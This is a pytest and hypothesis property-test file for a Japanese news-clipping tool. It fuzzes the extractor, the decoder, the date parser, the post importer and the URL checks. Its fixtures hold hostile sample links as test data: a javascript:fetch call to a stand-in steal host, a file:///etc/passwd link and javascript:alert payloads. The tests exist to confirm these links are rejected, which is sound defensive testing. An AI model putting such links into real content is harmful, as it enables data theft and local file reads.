"""Property tests: what comes from the web or from a user's files never crashes clipper.

The extractor, the decoder, the date parser, the post importer and the URL rules each get arbitrary input and input
built to look almost right; the round trips (a date written in any style, a post exported and imported back) give
back what went in. Then, end to end: credentials in an imported post's links are never stored or printed, and
`import --fetch` never fetches anything but http(s). Counts are bounded so the file runs in seconds.
"""

from __future__ import annotations

import codecs
import datetime as dt
import json
import os
import random
import re
import sqlite3
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from clipper.cli import app
from clipper.encoding import decode_html, normalize_label
from clipper.errors import ImportFormatError, UsageError
from clipper.extract import MAX_TITLE, extract_article
from clipper.extract.dates import DATE_STYLES, date_from_url, format_date, normalize_user_date, parse_date
from clipper.importer import parse_post, parse_post_file, parse_post_html
from clipper.models import Article, Clip
from clipper.outlets import load_registry
from clipper.post import render_post
from clipper.urls import check_url, normalize_url, strip_credentials
from tests.conftest import JA
from tests.webserver import LoopbackWeb

runner = CliRunner()
REGISTRY = load_registry()


def fuzz(examples: int) -> settings:
    """Bounded examples, no per-example deadline (2 shared cores make timings noisy)."""
    return settings(max_examples=examples, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])

# ------------------------------------------------------------------------------------------------ extractor

_TAGS = ["html", "head", "body", "title", "h1", "h2", "p", "div", "span", "article", "main", "section", "time", "a",
         "br", "script", "style", "noscript", "template", "svg", "ruby", "rt", "table", "td", "li", "ul", "meta",
         "link", "iframe", "figure", "figcaption", "header", "footer", "nav", "aside", "pre", "form", "select",
         "button"]
_ATTRS = ["class", "id", "itemprop", "property", "name", "content", "datetime", "href", "rel", "type", "lang",
          "charset", "value", "pubdate", "http-equiv"]
_ATTR_VALUES = st.one_of(
    st.text(max_size=30),
    st.sampled_from(["article-body", "og:title", "og:site_name", "article:published_time", "canonical", "author",
                     "application/ld+json", "datePublished", "https://www.sankei.com/article/x/", "ja", "utf-8",
                     "2016-08-01T11:34:00+09:00", "2024年10月28日 17時55分", "javascript:alert(1)", "//", "#",
                     "shift_jis", "text/html; charset=euc-jp"]),
)
_JSONLD = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text(max_size=20)
    | st.sampled_from(["NewsArticle", "2016-08-01", "産経新聞", "@graph"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
        st.sampled_from(["@type", "@graph", "headline", "datePublished", "author", "name", "articleBody", "publisher",
                         "dateModified", "url", "mainEntityOfPage"]) | st.text(max_size=8), inner, max_size=5),
    max_leaves=12,
)
_TEXT_BITS = st.one_of(
    st.text(max_size=40),
    st.sampled_from(["本文です。", "2016年8月1日", "令和元年5月1日", "3/9(木) 18:45", "関連記事", "&nbsp;", "&#x3042;",
                     "&#0;", "&#xD800;", "<!--", "-->", "<![CDATA[", "]]>", "\x00", "\ufeff", "\u202e", "●", "】"]),
)


@st.composite
def _tag_soup(draw: st.DrawFn) -> str:
    """Unbalanced, nested, attribute-laden HTML with JSON-LD, meta tags and text in between."""
    out: list[str] = []
    open_tags: list[str] = []
    for _ in range(draw(st.integers(0, 40))):
        kind = draw(st.integers(0, 5))
        if kind == 0:
            tag = draw(st.sampled_from(_TAGS))
            attrs = draw(st.lists(st.tuples(st.sampled_from(_ATTRS), _ATTR_VALUES), max_size=3))
            rendered = "".join(f' {k}="{v}"' if i % 2 else f" {k}='{v}'" for i, (k, v) in enumerate(attrs))
            out.append(f"<{tag}{rendered}>")
            open_tags.append(tag)
        elif kind == 1 and open_tags:
            out.append(f"</{open_tags.pop() if draw(st.booleans()) else draw(st.sampled_from(_TAGS))}>")
        elif kind == 2:
            out.append(f'<script type="application/ld+json">{json.dumps(draw(_JSONLD), ensure_ascii=False)}</script>')
        elif kind == 3:
            name = draw(st.sampled_from(["og:title", "og:site_name", "article:published_time", "author", "date"]))
            out.append(f'<meta property="{name}" content="{draw(_ATTR_VALUES)}">')
        else:
            out.append(draw(_TEXT_BITS))
    return "".join(out)


_URLS = st.one_of(st.none(), st.text(max_size=40), st.sampled_from([
    "https://www.sankei.com/article/20250121-X/", "https://mainichi.jp/articles/20250114/k00/00m/030/335000c",
    "http://[::1", "https://user:pw@www.asahi.com/articles/A.html", "file:///etc/passwd", "https://", "http://h:99999/",
]))


def _sane(article: Article) -> None:
    assert isinstance(article, Article)
    assert article.title is None or (isinstance(article.title, str) and len(article.title) <= MAX_TITLE + 1)
    assert article.published is None or parse_date(article.published) is not None
    assert all(isinstance(p, str) for p in article.paragraphs)


@pytest.mark.slow
@fuzz(80)
@given(st.text(max_size=2000), _URLS)
def test_extractor_never_raises_on_text(html: str, url: str | None) -> None:
    _sane(extract_article(html, url=url, registry=REGISTRY))


@pytest.mark.slow
@fuzz(120)
@given(_tag_soup(), _URLS)
def test_extractor_never_raises_on_tag_soup(html: str, url: str | None) -> None:
    _sane(extract_article(html, url=url, registry=REGISTRY))


@fuzz(100)
@given(st.binary(max_size=3000), st.one_of(st.none(), st.text(max_size=40)))
def test_extractor_never_raises_on_random_bytes(raw: bytes, content_type: str | None) -> None:
    _sane(extract_article(decode_html(raw, content_type).text, url="https://example.jp/a", registry=REGISTRY))


def test_extractor_on_corrupted_corpus_pages() -> None:
    """Real pages cut short and with bytes flipped: still an Article, never an exception."""
    rng = random.Random(20250121)
    pages = sorted(JA.glob("*/*.html"))[:12]
    for page in pages:
        raw = bytearray(page.read_bytes())
        for _ in range(20):
            raw[rng.randrange(len(raw))] = rng.randrange(256)
        for cut in (len(raw) // 3, len(raw) * 2 // 3):
            _sane(extract_article(decode_html(bytes(raw[:cut])).text, url="https://example.jp/a", registry=REGISTRY))


# ------------------------------------------------------------------------------------------------ decoding

_LABELS = st.one_of(
    st.text(max_size=20),
    st.sampled_from(["utf-8", "UTF8", "shift_jis", "Shift-JIS", "windows-31j", "euc-jp", "iso-2022-jp", "utf-16",
                     "utf-32", "latin1", "gbk", "euc-kr", "x-user-defined", "none", "", "hex", "base64", "zlib",
                     "rot13", "idna", "punycode", "undefined", "unicode_escape", "raw_unicode_escape", "uu", "utf-7",
                     "cp65001", "mbcs", "bogus-charset", "utf-8'", "\"utf-8\""]),
)
_CONTENT_TYPES = st.one_of(
    st.none(),
    st.text(max_size=60),
    st.builds(lambda mime, label: f"{mime}; charset={label}",
              st.sampled_from(["text/html", "application/xhtml+xml", "text/plain", ""]), _LABELS),
)
_BOMS = st.sampled_from([b"", b"", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE])


@fuzz(400)
@example(bytes(range(256)), "text/html; charset=undefined")
@example(bytes(range(256)), "text/html; charset=hex")
@example(b"<p>x</p>", "text/html; charset=punycode")
@given(st.builds(lambda bom, body: bom + body, _BOMS, st.binary(max_size=2000)), _CONTENT_TYPES)
def test_decoder_never_raises(raw: bytes, content_type: str | None) -> None:
    decoded = decode_html(raw, content_type)
    assert isinstance(decoded.text, str)
    codecs.lookup(decoded.encoding)  # a codec Python knows


@fuzz(150)
@given(st.binary(max_size=2000), st.sampled_from(["", "<meta charset=\"{}\">", "<meta http-equiv=\"Content-Type\" "
                                                  "content=\"text/html; charset={}\">", "<?xml version=\"1.0\" "
                                                  "encoding=\"{}\"?>"]), _LABELS)
def test_decoder_never_raises_on_declared_charsets(body: bytes, declaration: str, label: str) -> None:
    head = declaration.format(label).encode("utf-8", "replace")
    assert isinstance(decode_html(head + body).text, str)


@fuzz(60)
@given(st.text(max_size=50))
def test_normalize_label_never_raises(label: str) -> None:
    name = normalize_label(label)
    assert name is None or "x".encode(name, "replace").decode(name, "replace") is not None


_JA_TEXT = st.text(st.characters(codec="cp932", exclude_categories=("Cs", "Cc"), exclude_characters="¢£¬‖−〜"),
                   min_size=1, max_size=80)


def _round_trips(text: str, codec: str) -> bool:
    """cp932 and EUC-JP map a few characters (‖, ～...) to look-alikes: those cannot come back as written."""
    try:
        return text.encode(codec).decode(codec) == text
    except UnicodeError:
        return False


@fuzz(150)
@given(_JA_TEXT, st.sampled_from(["utf-8", "cp932", "euc_jp"]), st.sampled_from(["header", "meta", "none"]))
def test_declared_or_detected_japanese_decodes_back(text: str, codec: str, where: str) -> None:
    assume(_round_trips(text, codec))
    body = f"<html><body><p>{text}</p></body></html>".encode(codec)
    label = {"utf-8": "utf-8", "cp932": "Shift_JIS", "euc_jp": "EUC-JP"}[codec]
    if where == "meta":
        body = f'<html><head><meta charset="{label}"></head>'.encode() + body
    content_type = f"text/html; charset={label}" if where == "header" else "text/html"
    decoded = decode_html(body, content_type)
    if where == "none" and codec != "utf-8":
        return  # detection without a declaration is a guess; never raising is what counts here
    is_utf8 = True
    try:
        body.decode("utf-8")
    except UnicodeDecodeError:
        is_utf8 = False
    if codec == "utf-8" or not is_utf8:  # bytes valid as both are read as UTF-8, on purpose (see decode_html)
        assert text in decoded.text


# ------------------------------------------------------------------------------------------------ dates
# tests/test_dates.py has: parse_date never raises on text (hint None/2020) and date-like text; date -> style ->
# date round trip; find_published never raises. Added here: any year hint and zone, date-times of any offset,
# ISO round trips, date_from_url and normalize_user_date.

_STYLES = sorted(DATE_STYLES)
_ZONES = st.sampled_from(["Asia/Tokyo", "UTC", "America/Los_Angeles", "Pacific/Kiritimati", "Pacific/Pago_Pago",
                          "Asia/Kolkata"])


@fuzz(200)
@given(st.text(max_size=120), st.one_of(st.none(), st.integers(-10**6, 10**6)), _ZONES)
def test_parse_date_never_raises_with_any_hint_or_zone(text: str, hint: int | None, zone: str) -> None:
    got = parse_date(text, year_hint=hint, tz=zone)
    if got is not None:
        assert 1990 <= got.day_in_japan().year <= 2101
        assert parse_date(got.iso()) is not None


@fuzz(200)
@given(st.datetimes(dt.datetime(1990, 1, 2), dt.datetime(2100, 12, 30)),
       st.integers(-12 * 60, 14 * 60).map(lambda m: dt.timezone(dt.timedelta(minutes=m))), st.sampled_from(_STYLES))
def test_date_time_in_any_offset_renders_and_parses_back(moment: dt.datetime, zone: dt.timezone, style: str) -> None:
    aware = moment.replace(microsecond=0, tzinfo=zone)
    again = parse_date(aware.isoformat())
    assert again is not None and again.value == aware  # ISO round trip, to the second and the offset
    day = aware.astimezone(dt.timezone(dt.timedelta(hours=9))).date()
    text = format_date(aware.isoformat(), style)
    back = parse_date(text, year_hint=day.year if style == "md" else None)
    assert back is not None and back.day_in_japan() == day


@fuzz(150)
@given(st.dates(dt.date(1990, 1, 1), dt.date(2100, 12, 31)), st.sampled_from([s for s in _STYLES if s != "md"]),
       st.text(max_size=15), st.text(max_size=15))
def test_a_rendered_date_is_found_inside_other_text(day: dt.date, style: str, before: str, after: str) -> None:
    """A credit line's date with other words around it (md, 8.25, is only read as the whole text)."""
    text = format_date(day.isoformat(), style)
    # text around it that cannot itself read as a date or stick to the digits
    assume(not re.search(r"[\d０-９年月日/.\-:時]", before + after) and parse_date(before + " " + after) is None)
    assume(not re.search(r"(?i)[a-z]$", before) and not re.search(r"(?i)^[a-z(（]", after))
    back = parse_date(f"{before} {text} {after}", year_hint=day.year if style == "md" else None)
    assert back is not None and back.day_in_japan() == day


@fuzz(150)
@given(st.one_of(st.text(max_size=80), st.builds(lambda a, b: f"https://e.jp/{a}/{b}", st.text(max_size=20),
                                                 st.integers(0, 10**9))))
def test_date_from_url_never_raises(url: str) -> None:
    got = date_from_url(url)
    assert got is None or 1990 <= got.day_in_japan().year <= 2100


@fuzz(150)
@given(st.text(max_size=60))
def test_normalize_user_date_raises_only_value_error(text: str) -> None:
    try:
        iso = normalize_user_date(text)
    except ValueError:
        return
    assert parse_date(iso) is not None


# ------------------------------------------------------------------------------------------------ posts
# tests/test_importer.py has: parse_post / parse_post_html raise only ImportFormatError; text export -> import round
# trip of titles, outlets, dates, authors, paragraphs and cuts. Added here: the same round trip through the HTML
# draft (with links and summary points), markdown never crashing the importer, and saved files in any bytes.

_LINE_CHARS = st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zl", "Zp", "Zs"), exclude_characters="<>&")
_word = st.text(_LINE_CHARS, min_size=1, max_size=10).filter(
    lambda s: not s.startswith(("●", "・", "http")) and "★" not in s and "《" not in s and "》" not in s
    and "/" not in s and "／" not in s and not re.search(r"[0-9０-９]{4}", s)
    and not re.search("ブログランキング|ブログ村|(?i:trackback)|コメント|クリック|(?i:posted)|記事|略", s))
_line = st.lists(_word, min_size=1, max_size=4).map(" ".join)
_para = st.lists(_line, min_size=1, max_size=3).map("\n".join)
_outlet = st.text(st.characters(categories=("L",)), min_size=1, max_size=8)


@st.composite
def _clips(draw: st.DrawFn) -> list[Clip]:
    clips = []
    for cid in range(1, draw(st.integers(1, 3)) + 1):
        quote: list[str | None] = [" " + p for p in draw(st.lists(_para, min_size=1, max_size=3))]
        if len(quote) > 1 and draw(st.booleans()):
            quote.insert(draw(st.integers(1, len(quote) - 1)), None)
        # a / between two digits is read as part of a number (8/25), so no point starts or ends with one
        summary = tuple(draw(st.lists(_line.filter(lambda p: not re.search(r"^[0-9]|[0-9]$", p)), max_size=3)))
        published = draw(st.dates(dt.date(1990, 1, 1), dt.date(2099, 12, 31))).isoformat()
        path = draw(st.text(st.characters(codec="ascii", categories=("L", "N")), min_size=1, max_size=10))
        clips.append(Clip(id=cid, url=f"https://news.example.jp/{path}/{cid}", final_url=None, canonical_url=None,
                          title=draw(_line), outlet=draw(_outlet), site_name=None, published=published,
                          published_source=None, author=draw(st.none() | _line), body="", tags=(), note=None,
                          added_at="", encoding=None, quote=tuple(quote), summary=summary))
    return clips


@pytest.mark.slow
@fuzz(40)
@given(_clips(), st.sampled_from([s for s in _STYLES if s != "md"]))  # md has no year: not a credit line
def test_html_draft_imports_back_the_same(clips: list[Clip], style: str) -> None:
    page, _ = render_post(clips, fmt="html", date_style_for=lambda _: style)
    post = parse_post_html(page, source="draft.html")
    got = [(s.title, s.outlet_raw, s.published, s.author, s.quote, s.url) for s in post.sections]
    assert got == [(c.title, c.outlet, c.published, c.author, c.quote, c.url) for c in clips]
    for section, clip in zip(post.sections, clips, strict=True):
        if clip.summary:
            assert section.summary == clip.summary


@fuzz(30)
@given(_clips(), st.sampled_from(["markdown", "json"]))
def test_other_draft_formats_never_crash_the_importer(clips: list[Clip], fmt: str) -> None:
    draft, _ = render_post(clips, fmt=fmt, date_style_for=lambda _: "dot")
    try:
        parse_post(draft, source="draft")
    except ImportFormatError:
        pass


@fuzz(80)
@given(st.one_of(st.binary(max_size=800),
                 st.builds(lambda t, codec: t.encode(codec, "replace"),
                           st.text(st.sampled_from(list("●★《》/ 　\n年月日.-01289共同産経<p>br&;")), max_size=200),
                           st.sampled_from(["utf-8", "cp932", "euc_jp", "utf-16"]))))
def test_saved_post_files_in_any_bytes_raise_only_import_format_error(tmp_path_factory: pytest.TempPathFactory,
                                                                        raw: bytes) -> None:
    path = tmp_path_factory.getbasetemp() / "fuzz-post.txt"
    path.write_bytes(raw)
    try:
        parse_post_file(path)
    except ImportFormatError:
        pass


# ------------------------------------------------------------------------------------------------ URLs

_HOSTS = st.sampled_from(["www.sankei.com", "MAINICHI.JP", "127.0.0.1", "[::1]", "[2001:db8::1]", "xn--eckwd4c7c.jp",
                          "例え.jp", "", "h", "a.b.c.d.e"])
_PORTS = st.sampled_from(["", ":80", ":443", ":8080", ":", ":0", ":99999", ":abc", ":-1"])
_USERINFO = st.one_of(st.just(""), st.builds(lambda u, p: f"{u}:{p}@", st.text(st.characters(
    codec="ascii", exclude_characters="@/?#[]\\"), max_size=8), st.text(st.characters(codec="ascii",
    exclude_characters="@/?#[]\\"), min_size=1, max_size=8)), st.sampled_from(["user@", ":@", "@", "a:b@c@"]))
_SCHEMES = st.sampled_from(["http", "https", "HTTP", "HtTpS", "ftp", "file", "javascript", "data", "mailto", "", "ws"])
_URLISH = st.one_of(
    st.text(max_size=60),
    st.builds(lambda s, u, h, p, rest: f"{s}://{u}{h}{p}{rest}", _SCHEMES, _USERINFO, _HOSTS, _PORTS,
              st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30)),
    st.builds(lambda s, rest: f"{s}:{rest}", _SCHEMES, st.text(max_size=30)),
)


def _credentials(url: str) -> tuple[str | None, str | None]:
    try:
        parts = urlsplit(url)
        return parts.username, parts.password
    except ValueError:
        return None, None


@fuzz(500)
@example("http://host:abc/")
@example("http://host:99999/")
@example("http://u:p@[::1]:8080/x")
@example("https://user:pass@[2001:db8::1]/a?utm_source=x#f")
@example("http://[::1/")
@given(_URLISH)
def test_url_rules_never_raise_and_never_keep_credentials(url: str) -> None:
    stripped = strip_credentials(url)
    normal = normalize_url(url)
    assert normalize_url(normal) == normal  # idempotent
    for form in (stripped, normal):
        assert _credentials(form) == (None, None)
    try:
        checked = check_url(url)
    except UsageError:
        return
    parts = urlsplit(checked)
    assert parts.scheme.lower() in ("http", "https") and parts.hostname
    assert _credentials(checked) == (None, None)
    assert parts.port is None or 0 <= parts.port <= 65535
    assert normalize_url(checked) == normal  # checking does not change which article a URL means


@fuzz(150)
@given(_HOSTS.filter(bool), _PORTS, st.sampled_from(["/", "/a/b", "/記事?id=1&utm_source=x"]))
def test_credentials_never_change_which_article_a_url_means(host: str, port: str, path: str) -> None:
    plain, secret = f"https://{host}{port}{path}", f"https://me:hunter2@{host}{port}{path}"
    assert strip_credentials(secret) == plain
    assert normalize_url(secret) == normalize_url(plain)
    assert "hunter2" not in normalize_url(secret)


@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://example.com/a", "javascript:alert(1)", "data:text/html,x",
                                 "mailto:a@b.jp", "//example.com/a", "example.com/a", "http:///nohost", "ws://e.jp/"])
def test_only_http_and_https_pass_check_url(url: str) -> None:
    with pytest.raises(UsageError):
        check_url(url)


# ------------------------------------------------------------------------------------------------ URLs in imports

SECRET_POST = """<html><head><meta charset="utf-8"></head><body><div class="entry-body">
●<a href="https://reader:hunter2@www.sankei.com/article/20250121-QBJP5I25BBIG5IZ76XZNDHDB5Q/">警察無線の不感地帯解消</a><br>
&nbsp;&nbsp;産経 2025.1.21<br>
&nbsp;昨年の元日に起きた能登半島地震を受け、警察の情報通信環境の整備が進められる。<br>
<br>
●<a href="file:///etc/passwd">ファイルへのリンク</a><br>
&nbsp;&nbsp;共同 2016/8/25<br>
&nbsp;本文その二。<br>
<br>
●<a href="ftp://files.example.jp/x.html">FTPへのリンク</a><br>
&nbsp;&nbsp;共同 2016/8/26<br>
&nbsp;本文その三。<br>
<br>
●<a href="javascript:fetch('https://evil.example/steal')">スクリプト</a><br>
&nbsp;&nbsp;共同 2016/8/27<br>
&nbsp;本文その四。<br>
<br>
●<a href="http://127.0.0.1:9/admin">ループバック(httpなので取得は試みる)</a><br>
&nbsp;&nbsp;共同 2016/8/28<br>
&nbsp;本文その五。<br>
</div></body></html>
"""


def every_row(db: Path) -> list[tuple]:
    """Every row of every table (checkpointed first, so the file holds them all too)."""
    rows: list[tuple] = []
    with sqlite3.connect(db) as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        for (table,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
            try:
                rows += conn.execute(f'SELECT * FROM "{table}"').fetchall()
            except sqlite3.OperationalError:  # a virtual table of an extension this sqlite3 lacks
                continue
    return rows


def test_credentials_in_an_imported_post_are_never_stored_or_printed(web: LoopbackWeb, tmp_path: Path) -> None:
    url = "https://www.sankei.com/article/20250121-QBJP5I25BBIG5IZ76XZNDHDB5Q/"
    web.add_page(url, (JA / "sankei/20250121-ogasawara-police-radio.html").read_bytes())
    post = tmp_path / "post.html"
    post.write_text(SECRET_POST, encoding="utf-8")
    outputs = [runner.invoke(app, ["import", str(post), "--dry-run"]),
               runner.invoke(app, ["import", str(post), "--fetch"])]
    outputs += [runner.invoke(app, args) for args in (["list", "--json"], ["show", "1", "--json"], ["show", "1"],
                                                      ["export", "--post", "1", "--format", "html"],
                                                      ["export", "--json"], ["search", "警察無線", "--json"])]
    for result in outputs:
        assert "hunter2" not in result.output and "reader:" not in result.output, result.output
    db = tmp_path / "clips.db"
    assert "hunter2" not in "\n".join(map(repr, every_row(db)))
    assert b"hunter2" not in db.read_bytes()
    shown = json.loads(outputs[3].stdout)
    assert shown["url"] == url and shown["fetches"], "the clip was fetched, from the address without credentials"
    # the fetch went out without credentials: no userinfo, no Authorization header
    fetched = [r for r in web.requests if "sankei" in r.url]
    assert fetched and all("authorization" not in r.headers and "hunter2" not in r.url for r in fetched)


def test_import_fetch_never_fetches_other_schemes(web: LoopbackWeb, tmp_path: Path) -> None:
    post = tmp_path / "post.html"
    post.write_text(SECRET_POST, encoding="utf-8")
    result = runner.invoke(app, ["import", str(post), "--fetch"])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output  # 2 fetches failed
    archive = (os.environ["CLIPPER_CDX_URL"], os.environ["CLIPPER_WAYBACK_URL"])  # dead links' archived copies
    assert {r.url for r in web.requests if not r.url.startswith(archive)} <= {  # only the two http(s) links
        "https://www.sankei.com/article/20250121-QBJP5I25BBIG5IZ76XZNDHDB5Q/", "http://127.0.0.1:9/admin"}
    with sqlite3.connect(tmp_path / "clips.db") as conn:
        urls = [u for (u,) in conn.execute("SELECT url FROM clips ORDER BY id")]
        fetched = [u for (u,) in conn.execute("SELECT url FROM fetches")]
    assert len(urls) == 5  # every section is a clip
    assert all(u is None or u.startswith(("http://", "https://")) for u in urls)
    assert all(u.startswith(("http://", "https://")) for u in fetched)
